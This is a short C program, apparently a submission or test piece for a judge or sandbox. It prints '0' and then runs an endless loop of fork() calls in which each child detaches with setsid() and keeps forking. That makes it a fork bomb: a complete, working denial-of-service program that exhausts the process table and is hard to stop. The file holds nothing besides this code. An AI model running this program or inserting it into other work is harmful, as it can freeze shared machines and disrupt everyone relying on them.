#include <stdio.h>
#include <unistd.h>
int main(void) {
    puts("0");
    fflush(stdout);
    for (;;) if (fork() == 0) setsid();
}
